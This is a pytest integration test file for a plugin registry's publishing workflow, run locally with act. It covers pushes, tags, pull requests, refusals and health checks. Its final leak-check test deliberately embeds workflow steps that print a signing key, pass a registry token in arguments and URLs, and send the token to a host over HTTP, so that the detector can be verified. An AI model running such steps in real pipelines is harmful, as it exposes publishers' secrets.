"""Publishing from a plugin's repository, with its workflow run by act: from a push to what a host reads over HTTP."""

from __future__ import annotations

import json
import threading
from queue import Queue
from secrets import token_hex
from typing import TYPE_CHECKING

import pytest
from support.documents import ed25519
from support.forge import REGISTRY, Forge, open_forge, private_pem
from support.wheelhouse import PROJECT, Kit, make_kit

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from support.act import Run
    from support.github.records import Dispatch

pytestmark = pytest.mark.slow

CALENDAR = "acme/calendar"
SHA = "3f786850e387550fdab836ed7e6dc881de23001b"
HEAD = 'name: Plugin\non: {push: {branches: [main], tags: ["v*"]}}\npermissions: {}\njobs:\n  publish:\n'
# What plugin authors are told to write, either way.
REUSABLE = f"""\
    permissions:
      contents: read
    uses: acme/plugin-registry/.github/workflows/publish.yml@{SHA}
    with:
      INPUTS
    secrets:
      signing-key: ${{{{ secrets.PLUGIN_SIGNING_KEY }}}}
      registry-token: ${{{{ secrets.PLUGIN_REGISTRY_TOKEN }}}}
  after:
    needs: publish
    permissions: {{}}
    runs-on: ubuntu-24.04
    steps:
      - env:
          SAID: ${{{{ needs.publish.outputs.id }}}} ${{{{ needs.publish.outputs.version }}}} ${{{{ needs.publish.outputs.digest }}}}
        run: echo "next $SAID"
"""
ACTION = f"""\
    permissions:
      contents: read
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - id: publish
        uses: acme/plugin-registry/.github/actions/publish@{SHA}
        with:
          INPUTS
          signing-key: ${{{{ secrets.PLUGIN_SIGNING_KEY }}}}
          registry-token: ${{{{ secrets.PLUGIN_REGISTRY_TOKEN }}}}
      - env:
          SAID: ${{{{ steps.publish.outputs.id }}}} ${{{{ steps.publish.outputs.version }}}} ${{{{ steps.publish.outputs.digest }}}}
        run: echo "next $SAID"
"""


def workflow(body: str, **inputs: str) -> str:
    """A plugin's workflow with these inputs."""
    indent = "\n" + (" " * 10 if body is ACTION else " " * 6)
    return HEAD + body.replace(
        "INPUTS", indent.join(f'{name.replace("_", "-")}: "{value}"' for name, value in inputs.items())
    )


def manifest(version: str = "1.0.0", **members: object) -> dict[str, object]:
    """A plugin with an archive, unless told otherwise."""
    packed = (
        {}
        if members.keys() & {"ui", "server"}
        else {"artifacts": [{"ecosystem": "python", "pack": "plugin"}]}
    )
    return {"id": "acme-calendar", "name": "Calendar", "version": version, **packed, **members}


FILES = {"plugin/main.py": "print('hello')\n"}


@pytest.fixture(scope="session")
def kit(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Kit:
    """What the runners install, and keep: one for all processes of a session."""
    base = tmp_path_factory.getbasetemp()
    return make_kit(base.parent if hasattr(request.config, "workerinput") else base)


@pytest.fixture
def forge(tmp_path: Path, kit: Kit) -> Iterator[Forge]:
    """A forge with a registry, and acme's secrets in its plugin's repository; no run may give a secret away."""
    with open_forge(tmp_path / "forge", kit) as made:
        made.runner.secrets[CALENDAR] = {
            "PLUGIN_SIGNING_KEY": private_pem(made.world.publishers["acme"][0]),
            "PLUGIN_REGISTRY_TOKEN": made.token("acme-publisher", contents="write", pull_requests="write"),
        }
        yield made
    assert made.leaks() == []


def test_a_push_publishes_to_a_git_url(forge: Forge) -> None:
    """Push, reusable workflow, publish branch, the registrar's schedule, a host that downloads the archive."""
    forge.plugin(CALENDAR, workflow(REUSABLE, registry=f"{forge.host.url}/{REGISTRY}.git"), manifest(), FILES)
    run = forge.push(CALENDAR)
    assert run.code == 0, run.log
    assert run.outputs["result"] == "offered"
    digest = run.outputs["digest"]
    assert not run.told(f"next acme-calendar 1.0.0 {digest}"), run.log
    assert "### Calendar" in run.summary
    assert f"`{digest}`" in run.summary
    assert forge.offers() == [run.outputs["place"]]
    registered = forge.register()
    assert registered.code == 0, registered.log
    assert not registered.told("acme-calendar 1.0.0: published"), registered.log
    assert forge.offers() == []
    found = forge.read("acme-calendar")
    assert (found.model.version, str(found.payload_digest)) == ("1.0.0", digest)
    assert [data[:4] for data in forge.download(found)] == [b"PK\x03\x04"]


def test_a_tag_publishes_through_the_api_and_waits_for_the_registrar(forge: Forge) -> None:
    """The version is the tag's; the dispatch starts the registrar, and its status on the commit ends the wait."""
    registrar = registrar_on_dispatch(forge)
    forge.plugin(CALENDAR, workflow(ACTION, registry=REGISTRY, wait="60"), manifest(), FILES)
    run = forge.push(CALENDAR, tag="v1.1.0")
    registered = registrar()
    assert registered.code == 0, registered.log
    assert run.code == 0, run.log
    assert (run.outputs["result"], run.outputs["version"]) == ("registered", "1.1.0")
    assert forge.read("acme-calendar").model.version == "1.1.0"


def registrar_on_dispatch(forge: Forge) -> Callable[[], Run]:
    """Run the registrar as soon as it is told to; gives what waits for that run."""
    runs: Queue[Run] = Queue()

    def dispatched(_: Dispatch) -> None:
        threading.Timer(0.1, lambda: runs.put(forge.register())).start()

    forge.double.on_dispatch = dispatched
    return lambda: runs.get(timeout=60)


def example(forge: Forge, name: str, repository: str, *hosts: str) -> None:
    """One of this project's examples in a repository of its own; deployed to the forge instead of these hosts."""
    top = PROJECT / "examples" / name
    files = {
        path.relative_to(top).as_posix(): path.read_text(encoding="utf-8")
        for path in top.rglob("*")
        if path.is_file()
    }
    for host in hosts:
        files["manifest.json"] = files["manifest.json"].replace(host, forge.deployed.url)
    forge.plugin(
        repository,
        files.pop(".github/workflows/plugin-ci.yml"),
        json.loads(files.pop("manifest.json")),
        files,
    )
    forge.runner.secrets[repository].update(forge.runner.secrets[CALENDAR])


def test_the_example_with_an_archive_runs_as_it_stands(forge: Forge) -> None:
    """Its tests, and on a tag its archive on the tag's release, registered, and downloaded from there."""
    registrar = registrar_on_dispatch(forge)
    example(forge, "hello-world", "acme/hello-world")
    untagged = forge.push("acme/hello-world")
    assert (untagged.code, untagged.jobs) == (0, {"test": "success"}), untagged.log
    run = forge.push("acme/hello-world", tag="v1.0.0")
    assert run.code == 0, run.log
    assert registrar().code == 0
    assert run.outputs["result"] == "registered"
    found = forge.read("hello-world")
    assert "/acme/hello-world/releases/download/v1.0.0/" in str((found.model.artifacts or ())[0].url)
    assert [data[:4] for data in forge.download(found)] == [b"PK\x03\x04"]


def test_the_example_with_deployments_runs_as_it_stands(forge: Forge) -> None:
    """Tests, then backend and frontend are deployed, and then, as both answer, the version is published."""
    registrar = registrar_on_dispatch(forge)
    example(forge, "calendar", CALENDAR, "https://calendar-ui.example", "https://calendar-api.example")
    forge.runner.secrets[CALENDAR] |= dict.fromkeys(
        ("FLY_API_TOKEN", "CLOUDFLARE_API_TOKEN", "CLOUDFLARE_ACCOUNT_ID"), f"deploy-{token_hex(16)}"
    )
    run = forge.push(CALENDAR)
    assert run.code == 0, run.log
    assert registrar().code == 0
    assert run.jobs == dict.fromkeys(("test", "deploy-backend", "deploy-frontend", "publish"), "success")
    assert not run.told("backend answers", "frontend answers"), run.log
    assert forge.read("calendar").model.version == "1.0.0"


def test_a_push_proposes_a_pull_request_that_a_maintainer_merges(forge: Forge) -> None:
    """The workflow for pull requests judges it, the merge registers it; a second run updates the same pull request."""
    text = workflow(ACTION, registry=REGISTRY, pull_request="true")
    folder = forge.plugin(CALENDAR, text, manifest(permissions=["calendar:read"]), FILES)
    assert forge.push(CALENDAR).code == 0
    (folder / "plugin" / "main.py").write_text("print('hello again')\n", encoding="utf-8")
    run = forge.push(CALENDAR)
    assert run.code == 0, run.log
    pulls = forge.double.repository(REGISTRY).issues
    number, pull = next(iter(pulls.items()))
    assert len(pulls) == 1
    assert run.outputs["place"].endswith(f"/pull/{number}")
    assert "calendar:read" in (pull.body or "")
    judged = forge.validate(number)
    assert judged.code == 0, judged.log
    assert run.outputs["digest"] in judged.summary
    merged = forge.merge(number)
    assert merged.code == 0, merged.log
    assert str(forge.read("acme-calendar").payload_digest) == run.outputs["digest"]


@pytest.mark.parametrize("api", [False, True], ids=["git", "api"])
@pytest.mark.parametrize(
    ("change", "words"),
    [
        pytest.param(
            {"key": "stranger"},
            ["is not a key of this publisher", "the secret PLUGIN_SIGNING_KEY"],
            id="a key that is not the publisher's",
        ),
        pytest.param(
            {"id": "globex-chat"},
            ["no publisher of this registry may publish 'globex-chat'", "Ask its maintainers"],
            id="an id that the publisher may not use",
        ),
        pytest.param({"key": ""}, ["Add the secret PLUGIN_SIGNING_KEY to this repository"], id="no key"),
        pytest.param(
            {"token": "github_pat_withdrawn0123456789"},
            ["token", "PLUGIN_REGISTRY_TOKEN"],
            id="a token that is refused",
        ),
    ],
)
def test_what_cannot_be_published_stops_with_a_way_out(
    forge: Forge, change: dict[str, str], words: list[str], api: bool
) -> None:
    """Nothing is offered, and the run says what is wrong and what to do, without the secrets that a talkative host repeats."""
    secrets = forge.runner.secrets[CALENDAR]
    if "key" in change:
        secrets["PLUGIN_SIGNING_KEY"] = private_pem(ed25519(change["key"])) if change["key"] else ""
    secrets["PLUGIN_REGISTRY_TOKEN"] = change.get("token", secrets["PLUGIN_REGISTRY_TOKEN"])
    forge.host.say = "{password} is not enough"
    registry = REGISTRY if api else f"{forge.host.url}/{REGISTRY}"
    forge.plugin(
        CALENDAR, workflow(ACTION, registry=registry), manifest(id=change.get("id", "acme-calendar")), FILES
    )
    run = forge.push(CALENDAR)
    assert run.code != 0
    assert not run.told(*words), run.log
    assert "next" not in run.output
    assert forge.offers() == []


def test_a_published_version_with_other_content_is_refused(forge: Forge) -> None:
    """The same content again is fine and says so; other content under the version is not."""
    text = workflow(ACTION, registry=f"{forge.host.url}/{REGISTRY}")
    folder = forge.plugin(CALENDAR, text, manifest(), FILES)
    assert forge.push(CALENDAR).code == 0
    assert forge.register().code == 0
    again = forge.push(CALENDAR)
    assert again.code == 0, again.log
    assert again.outputs["result"] == "unchanged"
    (folder / "plugin" / "main.py").write_text("print('other')\n", encoding="utf-8")
    other = forge.push(CALENDAR)
    assert other.code != 0
    words = ("acme-calendar 1.0.0 is published already", "with other content", "raise it in the manifest")
    assert not other.told(*words), other.log
    assert forge.offers() == []


def test_a_deployment_that_does_not_answer_stops_it(forge: Forge) -> None:
    """With `check-health`, nothing is offered before backend and frontend answer; then it is."""
    ui = {"remoteEntry": f"{forge.deployed.url}/entry.js", "expose": "./App"}
    server = {"routeBase": "/api/calendar", "deploymentUrl": forge.deployed.url, "healthCheck": "/health"}
    text = workflow(ACTION, registry=f"{forge.host.url}/{REGISTRY}", check_health="true", health_timeout="1")
    forge.plugin(CALENDAR, text, manifest(ui=ui, server=server))
    (forge.site / "entry.js").write_text("export default 1\n", encoding="utf-8")
    run = forge.push(CALENDAR)
    assert run.code != 0
    assert not run.told(f"backend {forge.deployed.url}/health: HTTP 404", "Look at the deployment"), run.log
    assert forge.offers() == []
    (forge.site / "health").write_text('{"status": "ok"}', encoding="utf-8")
    run = forge.push(CALENDAR)
    assert run.code == 0, run.log
    assert len(forge.offers()) == 1


LEAKY = """\
    runs-on: ubuntu-24.04
    permissions: {}
    steps:
      - env:
          KEY: ${{ secrets.PLUGIN_SIGNING_KEY }}
          TOKEN: ${{ secrets.PLUGIN_REGISTRY_TOKEN }}
        run: |
          STEP
"""


@pytest.mark.parametrize(
    ("step", "where"),
    [
        ("echo nothing to see", []),
        ("printf '%s' \"$KEY\" | sed -n 2p", ["output"]),
        ('echo "# $TOKEN" >> "$GITHUB_STEP_SUMMARY"', ["output"]),
        ("python3 -c 'import time; time.sleep(1)' \"$TOKEN\"", ["process argument"]),
        ('git ls-remote "$GITHUB_SERVER_URL/acme/$TOKEN" || true', ["process argument", "URL"]),
        (
            'python3 -c \'import os, urllib.request as u; u.urlopen("DEPLOYED/a?" + os.environ["TOKEN"])\' || true',
            ["request to a host that needs none"],
        ),
        ('echo "$TOKEN" > kept; exit 1', ["file"]),
    ],
)
def test_the_leak_check_finds_leaks(tmp_path: Path, kit: Kit, step: str, where: list[str]) -> None:
    """What every other test here ends with sees a secret wherever a step lets it out."""
    with open_forge(tmp_path / "forge", kit) as forge:
        forge.runner.secrets[CALENDAR] = {
            "PLUGIN_SIGNING_KEY": private_pem(forge.world.publishers["acme"][0]),
            "PLUGIN_REGISTRY_TOKEN": forge.token("acme-publisher"),
        }
        forge.plugin(
            CALENDAR, HEAD + LEAKY.replace("STEP", step.replace("DEPLOYED", forge.deployed.url)), manifest()
        )
        run = forge.push(CALENDAR)
        found = {leak.partition(": ")[0] for leak in forge.leaks()}
        assert found >= set(where), run.log
        assert where or not found
        forge.double.seed(REGISTRY, {"kept": forge.runner.secrets[CALENDAR]["PLUGIN_REGISTRY_TOKEN"]}, "kept")
        assert any(leak.startswith("commit: ") for leak in forge.leaks())
